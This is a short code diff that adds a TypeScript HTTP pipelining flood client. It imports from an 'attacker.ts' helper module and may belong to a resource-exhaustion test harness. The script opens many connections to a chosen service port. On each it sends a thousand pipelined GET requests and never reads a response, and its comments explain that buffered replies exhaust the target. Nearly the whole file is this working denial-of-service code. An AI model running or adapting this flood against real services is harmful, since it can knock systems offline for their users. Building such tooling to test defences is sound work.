@@ -1,0 +1,15 @@
+import { args, flood, inPlace, open } from './attacker.ts';
+
+/* Section 9.3.2 of RFC 9112 allows pipelining. This client pipelines without end and never reads an answer. */
+const { path, connections, ...target } = args<{
+  readonly listener: 'api' | 'device' | 'ops';
+  readonly path: string;
+  readonly connections: number;
+}>();
+const port = target[target.listener];
+for (let number = 0; number < connections; number += 1) {
+  const socket = await open(port);
+  flood(socket, `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(1000));
+}
+// The kernel takes some megabytes of answers before any is left in the service.
+setTimeout(inPlace, 1500);
